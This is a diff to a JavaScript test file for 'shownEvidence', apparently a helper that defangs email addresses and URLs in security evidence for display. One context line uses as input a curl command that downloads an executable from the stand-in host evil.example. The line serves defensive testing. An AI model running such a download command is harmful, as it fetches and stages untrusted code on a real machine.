@@ -9,6 +9,13 @@ describe('shownEvidence', () => {
     expect(shownEvidence('mallory@evil.example')).toBe('mallory[@]evil[.]example');
   });
 
+  it('defangs mail addresses in running text where addresses are announced, as in the query of an email cluster', () => {
+    expect(shownEvidence('Sender is mallory@evil.example, P2 a.b@c.example')).toBe(
+      'Sender is mallory[@]evil[.]example, P2 a.b[@]c[.]example',
+    );
+    expect(shownEvidence('runs as dana@contoso.example', 'text')).toBe('runs as dana@contoso.example');
+  });
+
   it('leaves file names and commands readable but for the URLs in them', () => {
     expect(shownEvidence('cmd.exe', 'text')).toBe('cmd.exe');
     expect(shownEvidence('curl http://evil.example/x -o a.exe', 'text')).toBe(
